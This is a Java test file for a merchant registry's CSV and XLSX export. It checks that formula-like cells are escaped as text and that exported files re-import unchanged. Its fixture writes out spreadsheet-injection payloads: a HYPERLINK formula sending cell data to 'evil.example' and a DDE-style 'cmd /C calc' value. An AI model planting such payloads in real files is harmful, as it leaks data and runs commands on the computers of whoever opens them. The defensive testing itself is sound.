package cn.urbanmgmt.risk.registry;

import static cn.urbanmgmt.risk.TestSupport.as;
import static cn.urbanmgmt.risk.TestSupport.asJson;
import static cn.urbanmgmt.risk.TestSupport.merchant;
import static cn.urbanmgmt.risk.TestSupport.uscc;
import static org.hamcrest.Matchers.is;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Issue 14, point 7: exports never hand a spreadsheet a formula, and still import back unchanged. */
@QuarkusTest
class FormulaSafeExportTest {

    private static final String EXPORT = "/api/v1/merchants/export";
    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private String registerHostile(String tag) {
        String code = uscc();
        Map<String, Object> m = merchant(code, "jingansi");
        m.put("name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"" + tag + "\")");
        m.put("address", "@SUM(1+1)*cmd|' /C calc'!A0");
        m.put("contactName", "-2+3");
        m.put("contactPhone", "+86 21 5555 0000");
        asJson("admin").body(m).post("/api/v1/merchants").then().statusCode(201);
        return code;
    }

    @Test
    void csvExportWritesFormulaLikeCellsAsTextAndImportsBackUnchanged() throws Exception {
        String tag = "公式" + uscc().substring(11);
        String code = registerHostile(tag);
        byte[] body = as("admin").queryParam("uscc", code).get(EXPORT).then().statusCode(200).extract().asByteArray();
        String text = new String(body, StandardCharsets.UTF_8).substring(1);
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
        assertEquals(2, records.size(), text);
        CSVRecord row = records.get(1);
        for (String cell : row.toList()) {
            char c = cell.isEmpty() ? ' ' : cell.charAt(0);
            assertTrue(c != '=' && c != '+' && c != '-' && c != '@', "a cell a spreadsheet would run: " + cell);
        }
        assertTrue(row.get(MerchantColumns.NAME.ordinal()).startsWith("'=HYPERLINK("));
        assertEquals("'+86 21 5555 0000", row.get(MerchantColumns.CONTACT_PHONE.ordinal()));

        // What is exported imports back unchanged: the apostrophe is not stored.
        as("admin").contentType("text/csv").body(body).post("/api/v1/merchants/import").then().statusCode(200)
                .body("unchanged", is(1)).body("updated", is(0));
        as("admin").get("/api/v1/merchants/by-uscc/" + code).then().statusCode(200)
                .body("contactPhone", is("+86 21 5555 0000")).body("contactName", is("-2+3"));
    }

    @Test
    void xlsxExportHasNoFormulaCellsAndMarksFormulaLikeTextAsText() throws Exception {
        String tag = "表格公式" + uscc().substring(11);
        String code = registerHostile(tag);
        byte[] body = as("admin").queryParam("uscc", code).queryParam("format", "xlsx").get(EXPORT).then().statusCode(200)
                .extract().asByteArray();
        try (Workbook wb = new XSSFWorkbook(new ByteArrayInputStream(body))) {
            Sheet sheet = wb.getSheetAt(0);
            assertEquals(1, sheet.getLastRowNum());
            Row row = sheet.getRow(1);
            for (Cell cell : row) {
                assertNotEquals(CellType.FORMULA, cell.getCellType());
            }
            Cell name = row.getCell(MerchantColumns.NAME.ordinal());
            assertEquals(CellType.STRING, name.getCellType());
            assertTrue(name.getStringCellValue().startsWith("=HYPERLINK("));
            assertTrue(name.getCellStyle().getQuotePrefixed(), "formula-like text carries Excel's quote prefix");
            assertTrue(row.getCell(MerchantColumns.CONTACT_PHONE.ordinal()).getCellStyle().getQuotePrefixed());
            assertTrue(!row.getCell(MerchantColumns.STREET.ordinal()).getCellStyle().getQuotePrefixed());
        }
        as("admin").contentType(XLSX).body(body).post("/api/v1/merchants/import").then().statusCode(200)
                .body("unchanged", is(1));
    }
}
